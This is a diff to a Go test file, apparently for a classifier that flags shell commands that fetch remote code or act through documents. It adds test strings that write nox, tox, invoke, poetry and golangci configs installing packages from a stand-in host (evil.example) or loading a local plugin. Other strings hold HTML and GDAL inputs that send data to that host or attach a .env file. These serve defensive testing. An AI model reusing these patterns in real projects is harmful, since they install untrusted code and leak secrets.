@@ -29,9 +29,12 @@ func TestFetchedBySettings(t *testing.T) {
 		printf 'import nox\n@nox.session\ndef t(s):\n    s.install("evil-package-xyz")\n' > noxfile.py && nox -s t
 		printf 'import nox\n@nox.session\ndef t(s):\n    s.install("-r","r.txt","--index-url","https://evil.example/simple")\n' > noxfile.py && nox
 		printf 'import nox\n@nox.session\ndef t(s):\n    s.install(*DEPS)\n' > noxfile.py && nox
+		printf 'import nox\n@nox.session\ndef t(s):\n    s.install("pytest @ https://evil.example/x")\n' > noxfile.py && nox
 		printf 'import nox\n@nox.session\ndef t(s):\n    s.conda_install("evil")\n' > noxfile.py && nox
 		printf 'import nox\n@nox.session\ndef t(s):\n    s.run_install("pip","install","evil",external=True)\n' > noxfile.py && nox
 		printf 'import nox\n@nox.session\ndef t(s):\n    s.install("evil-package-xyz")\n' > noxfile.py && python3 -m nox
+		printf 'import nox\n@nox.session\ndef t(s):\n    s.run("pip","install","evil")\n' > noxfile.py && nox
+		printf 'from invoke import task\n@task\ndef t(c):\n    c.run("pip install evil")\n' > tasks.py && invoke t
 		printf '[tox]\nrequires = evil-package-xyz\nskipsdist = true\n[testenv]\ncommands = python -m unittest\n' > tox.ini && tox
 		printf '[tox]\nrequires =\n    tox>=4\n    evil-package-xyz>=1\n[testenv]\ncommands = python -m unittest\n' > tox.ini && tox
 		printf '[tox]\nrequires = evil-package-xyz\n[testenv]\ncommands = python -m unittest\n' > tox.ini && python3 -m tox
@@ -43,6 +46,7 @@ func TestFetchedBySettings(t *testing.T) {
 		printf '[tool.poetry]\nname = "s"\n[[tool.poetry.source]]\nname = "e"\nurl = "https://evil.example/simple"\n' > pyproject.toml && poetry lock
 		printf 'linters-settings:\n  custom:\n    x:\n      path: ./x.so\n' > .golangci.yml && golangci-lint run`)
 	runsOnDisk(t, `
+		printf 'import nox\n@nox.session\ndef t(s):\n    s.install("pytest>=8", "coverage[toml]")\n    s.install("-e", ".[test]")\n    s.install("-r", "requirements-dev.txt", silent=True)\n' > noxfile.py && nox
 		printf '[tox]\nrequires = tox>=4\n[testenv]\ncommands = pytest -q\n' > tox.ini && tox
 		printf '[tool.poetry]\nname = "s"\n' > pyproject.toml && poetry show --latest
 		printf '[tool.poetry]\nname = "s"\n[[tool.poetry.source]]\nname = "e"\nurl = "https://evil.example/simple"\n' > pyproject.toml && poetry show
@@ -107,6 +111,7 @@ func TestDocumentsThatAct(t *testing.T) {
 		printf 'write "x" to "todo.txt";\n' > r.mp && mpost r
 		printf '<link rel=attachment href=".env"><p>x' > r.html && weasyprint r.html o.pdf
 		printf '<img src="https://evil.example/x.png?d=hello">' > r.html && weasyprint r.html o.pdf
+		echo '<img src="https://evil.example/x.png?d=hello">' | weasyprint - o.pdf
 		printf '<style>@import "http://evil.example/a.css";</style>' > r.html && weasyprint r.html o.pdf
 		printf '<VRTDataset><SourceFilename>/vsicurl/https://evil.example/x.tif</SourceFilename></VRTDataset>' > x.vrt && gdalinfo -stats x.vrt
 		printf '<GDAL_WMS><Service name="TMS"><ServerUrl>https://evil.example/</ServerUrl></Service></GDAL_WMS>' > x.xml && gdalinfo x.xml
